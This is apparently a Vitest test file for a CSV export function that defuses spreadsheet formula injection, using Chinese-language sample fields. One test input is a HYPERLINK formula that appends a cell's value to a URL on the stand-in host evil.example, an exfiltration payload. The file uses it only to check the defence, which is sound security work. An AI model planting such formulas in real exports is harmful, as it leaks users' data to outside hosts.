import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './csv.js';

describe('CSV export cells', () => {
  it('neutralises text a spreadsheet program would run as a formula (OWASP: leading single quote)', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"点此")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""点此"")"`,
    );
    expect(csvField('+1+1')).toBe("'+1+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leaves numbers, ordinary text and inner signs alone', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField('同意 = 准予')).toBe('同意 = 准予');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(toCsv(['办件编号', '意见'], [{ 办件编号: 'c1', 意见: '=1+1' }])).toBe(
      "办件编号,意见\r\nc1,'=1+1\r\n",
    );
  });
});
